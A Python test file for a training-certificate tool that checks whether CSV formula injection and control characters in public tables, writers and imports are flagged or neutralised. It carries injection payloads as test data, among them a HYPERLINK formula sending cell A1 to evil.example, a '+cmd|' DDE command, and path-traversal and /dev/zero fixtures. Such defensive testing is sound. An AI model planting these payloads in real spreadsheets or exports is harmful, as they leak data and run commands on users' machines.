"""CSV injection (OWASP; issue 15): a text cell of any public table that begins with =, +, -, @, a tab or a
carriage return is a finding (`csv-formula`), a control character is one (`csv-control-character`), a
signed number in a number column is not; and every CSV ustaz writes neutralises such a cell."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from conftest import run_ustaz
from sealed import plain_certificate

from ustaz.calendar import valid_until
from ustaz.certificates import codes
from ustaz.certificates.register import Status
from ustaz.certificates.writer import append
from ustaz.checks import Context
from ustaz.checks.table_cells import CSV_CONTROL, CSV_FORMULA, table_cells
from ustaz.project import Project
from ustaz.writefile import FORMULA_START, neutralise

TODAY = dt.date(2026, 11, 23)
PAYLOADS = [start + 'HYPERLINK("http://evil.example/?x="&A1,"x")' for start in FORMULA_START]


def _with_register_row(project: Path) -> str:
    """A sealed row in the register; returns its code."""
    issued = dt.date(2026, 10, 23)
    code = codes.new_code()
    append(project, [plain_certificate(code=code, shown_code=codes.display(code), program="robotics-basics",
                                 cohort="2026-rb-kk-01", holder="Тестова Айгерим", hours=80,
                                 course_ended=dt.date(2026, 10, 20), issued=issued,
                                 valid_until=valid_until(issued, 3), status=Status.ISSUED)])
    return code


def _tables(project: Path) -> dict[str, dict[str, str]]:
    """Every public table and its columns' types (Table Schema; the register's too)."""
    package = json.loads((project / "data/datapackage.json").read_text(encoding="utf-8"))
    out = {}
    for res in package["resources"]:
        schema = json.loads((project / "data" / res["schema"]).read_text(encoding="utf-8"))
        for path in [res["path"]] if isinstance(res["path"], str) else res["path"]:
            out[f"data/{path}"] = {f["name"]: f.get("type", "string") for f in schema["fields"]}
    return out


def _set_cell(path: Path, column: str, value: str) -> int:
    """Put `value` into `column` of the table's first data row (a table of its header alone, e.g. an aggregate not
    published yet, is given one of empty cells); the row's line."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    if len(rows) == 1:
        rows.append([""] * len(rows[0]))
    rows[1][rows[0].index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")
    return 2


def _findings(project: Path) -> set[tuple[str, int | None, str]]:
    ctx = Context(project=Project.load(project, project / "examples/private"), today=TODAY)
    return {(f.path, f.line, f.code) for f in table_cells(ctx)}


def test_the_shipped_tables_hold_no_formula_or_control_character(project: Path) -> None:
    _with_register_row(project)
    assert _findings(project) == set()


def test_every_text_cell_of_every_public_table_is_held_to_the_rule(project: Path) -> None:
    """Each table, each column: a formula in a text column is a finding at its line; a signed number in a
    number column is none (it is the number it says)."""
    _with_register_row(project)
    tables = _tables(project)
    assert {"data/certificates/2026.csv", "data/schedule/2026.csv", "data/organizations.csv", "data/trainers.csv",
            "data/networks/research.csv"} <= set(tables)
    tried = 0
    for table, columns in tables.items():
        path = project / table
        original = path.read_text(encoding="utf-8")
        for column, type_ in columns.items():
            if type_ in ("string", "any"):
                # (a NUL makes any other table unreadable text, the file check's finding; the register is
                # read as columns, so there it is this check's)
                control = "x\x00y" if table.startswith("data/certificates/") else "x\x1b[2Jy\u202e"
                for payload in (PAYLOADS[tried % len(PAYLOADS)], "-1", control):
                    line = _set_cell(path, column, payload)
                    code = CSV_FORMULA if payload[0] in FORMULA_START else CSV_CONTROL
                    assert (table, line, code) in _findings(project), (table, column, payload)
                    tried += 1
            elif type_ in ("integer", "number"):
                _set_cell(path, column, "-5")
                assert not {f for f in _findings(project) if f[2] == CSV_FORMULA}, (table, column)
            path.write_text(original, encoding="utf-8")
    assert tried > 30


def test_a_table_without_a_schema_keeps_numbers_and_flags_formulas(project: Path) -> None:
    extra = project / "data/networks/extra.csv"
    extra.write_text("id,value,note\nrow,-5,+7.5\nrow2,@SUM(A1),ok\n", encoding="utf-8")
    assert _findings(project) == {("data/networks/extra.csv", 3, CSV_FORMULA)}


def test_the_check_reports_through_the_cli(project: Path) -> None:
    _set_cell(project / "data/organizations.csv", "name_ru", '=HYPERLINK("http://x","y")')
    r = run_ustaz("check", "--today", TODAY.isoformat(), "data", cwd=project)
    assert r.returncode == 1 and "data/organizations.csv:2: error csv-formula: 'name_ru' begins with '='" in r.stdout


@pytest.mark.parametrize("value", [*PAYLOADS, "-", "+7 701 123 45 67", "-2+3"])
def test_neutralise_makes_every_formula_text(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Иванов", "-5", "+7.5", "12", "", 5, -5.0, None])
def test_neutralise_keeps_text_and_numbers(value: object) -> None:
    assert neutralise(value) == value


EVIL = '=HYPERLINK("http://evil.example","x")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_every_csv_writer_neutralises_a_formula() -> None:
    """The CSV writers of ustaz (writefile.csv_text under all of them): a formula cell is written as text."""
    from ustaz.cli.monitoring import sample_csv
    from ustaz.monitoring.population import Stratum
    from ustaz.monitoring.sample import Sample, SampledTeacher
    from ustaz.support.reports import report_row
    from ustaz.tables.plain import to_csv

    stratum = Stratum(region="KZ-71", direction="@direction", locality="urban")
    outputs = {
        "courses.table.to_csv": to_csv(("a", "b"), [{"a": EVIL, "b": -5}]),
        "support.reports.report_row": report_row("org", 2026, "1", TODAY, None, 3, EVIL),
        "monitoring.sample_csv": sample_csv(Sample(seed=1, size=1, strata=(), drawn=(
            SampledTeacher(teacher=EVIL, replacement="+cmd|' /C calc'!A0", stratum=stratum),))),
    }
    for name, text in outputs.items():
        cells = _cells(text)
        assert all(neutralise(c) == c for c in cells), (name, cells)  # nothing a spreadsheet would run
        assert f"'{EVIL}" in cells, name


def test_the_register_writer_refuses_a_formula_reason(project: Path) -> None:
    code = _with_register_row(project)
    path = project / "data/certificates/2026.csv"
    before = path.read_bytes()
    for reason in (EVIL, "ok\x1b[2J"):
        r = run_ustaz("register", "revoke", code, "--reason", reason, "--date", "2026-11-01", cwd=project)
        assert r.returncode == 2 and "formula" in r.stderr and "Traceback" not in r.stderr, r
    assert path.read_bytes() == before


def test_course_import_refuses_formula_names_as_findings(project: Path, tmp_path: Path) -> None:
    """A department's list with formula names (text cells in the workbook): each such row is a finding and
    is not imported; the other rows are."""
    from openpyxl import Workbook

    from ustaz.ids import make_iin

    wb = Workbook()
    ws = wb.active
    ws.append(["Тегі", "Аты", "ЖСН", "Жұмыс орны"])
    names = [(EVIL, "Айжан"), ("Бірінші", "@SUM(A1)"), ("Екінші", "Болат"), ("-2+3", "Ерлан"),
             ("Үшінші", "Гүл\u202eнар")]
    for i, (surname, name) in enumerate(names):
        ws.append([surname, name, make_iin(f"9001014{i:04d}"), "ast-school-101"])
    for row in ws.iter_rows(min_row=2):
        for cell in row[:2]:
            cell.data_type = "s"  # text that begins with '=': what a list pasted as text holds
    xlsx = tmp_path / "list.xlsx"
    wb.save(xlsx)
    listeners = project / "examples/private/cohorts/2026-rb-ru-01/listeners.csv"
    r = run_ustaz("course", "import", "2026-rb-ru-01", str(xlsx), cwd=project)
    assert r.returncode == 1, r.stderr
    flagged = {int(line.split(":")[1]) for line in r.stderr.splitlines() if " error import-formula: " in line}
    assert flagged == {2, 3, 5, 6}, r.stderr
    assert "added 1 listener(s)" in r.stderr
    written = listeners.read_text(encoding="utf-8")
    assert "Екінші" in written and not any(n in written for pair in names if pair[0] != "Екінші" for n in pair)


def test_the_check_reads_no_file_outside_data_nor_a_device(project: Path, tmp_path: Path) -> None:
    """A hostile data package (a schema path leading out, a schema linked to /dev/zero) and a table linked to
    a file outside: the check answers at once and reads none of them."""
    import time

    outside = tmp_path / "outside.csv"
    outside.write_text("id,name\nx,=HYPERLINK(1)\n", encoding="utf-8")
    (project / "data/networks/linked.csv").symlink_to(outside)
    (project / "data/schemas/zero.json").symlink_to("/dev/zero")
    package = json.loads((project / "data/datapackage.json").read_text(encoding="utf-8"))
    package["resources"][0]["schema"] = "schemas/zero.json"
    package["resources"][1]["schema"] = "../../" + str(outside)
    (project / "data/datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    started = time.monotonic()
    assert _findings(project) == set()
    assert time.monotonic() - started < 10


def test_the_register_fast_path_rests_on_every_control_character_being_unprintable() -> None:
    """The register's columns skip the cell-by-cell pass when their text is printable: that is sound only while no
    character the control rule names is printable (str.isprintable), over the whole of Unicode."""
    from ustaz.writefile import CONTROL

    printable = [hex(c) for c in range(0x110000) if CONTROL.match(chr(c)) and chr(c).isprintable()]
    assert printable == []
    assert not CONTROL.match("a") and CONTROL.match("\x00")  # the rule is what the test reads


def test_a_plain_pattern_lets_no_unsafe_cell_through() -> None:
    """The register's columns whose every cell passed a plain pattern are not filtered again (the ids, the
    seals: a million cells each). Sound only if no string such a pattern matches is a formula or holds a
    control character: every pattern built from the atoms below, every string of up to 3 characters over an
    alphabet of formula starts, control characters and plain ones."""
    import itertools
    import random
    import re

    from ustaz.checks.table_cells import _plain_pattern, unsafe

    alphabet = "a9Z_.-=+@\t\r\n\x00\x1b ["
    strings = ["".join(p) for n in range(4) for p in itertools.product(alphabet, repeat=n)]
    atoms = ["a", "9", "_", "-", ".", "=", "[a-z]", "[a-z-]", "[-a]", "[A-z]", "[a\\-z]", "[^a]", ".", "\\S", "\\d",
             "\\w", "\\W", "(a|=)", "[=a]", "[_a]", "[\\t]", "\\n", "[0-9.]"]
    counts = ["", "", "?", "*", "+", "{1,2}", "{0,2}", "{,2}", "{2}"]
    rng = random.Random(16)
    plain_seen = unsafe_seen = 0
    for _ in range(3_000):
        body = "".join(rng.choice(atoms) + rng.choice(counts) for _ in range(rng.randrange(1, 4)))
        pattern = f"^{body}$"
        try:
            rx = re.compile(pattern)
        except re.error:
            continue
        matched = [s for s in strings if rx.fullmatch(s)]
        if _plain_pattern(pattern):
            plain_seen += 1
            assert not [s for s in matched if unsafe(s, True)], pattern
        elif any(unsafe(s, True) for s in matched):
            unsafe_seen += 1
    assert plain_seen > 100 and unsafe_seen > 100, (plain_seen, unsafe_seen)  # both kinds were tried
    schema = json.loads((Path(__file__).parent.parent / "data/schemas/certificates.json").read_text())
    plain = {f["name"] for f in schema["fields"] if _plain_pattern(f.get("constraints", {}).get("pattern", ""))}
    assert plain == {"id", "program", "cohort", "supersedes", "holder_seal", "reason_seal"}
    # an enum passes over a column only when every value is plain (a letter or digit first)
    from ustaz.checks.table_cells import _plain_constraint

    assert _plain_constraint("enum", ["issued", "revoked"]) and _plain_constraint("enum", ["kk", "ru", "en"])
    for bad in (["issued", "=cmd"], ["-1"], ["a b"], ["x\t"], ["@x"], [""], [1]):
        assert not _plain_constraint("enum", bad), bad
    assert not _plain_constraint("minLength", 3)
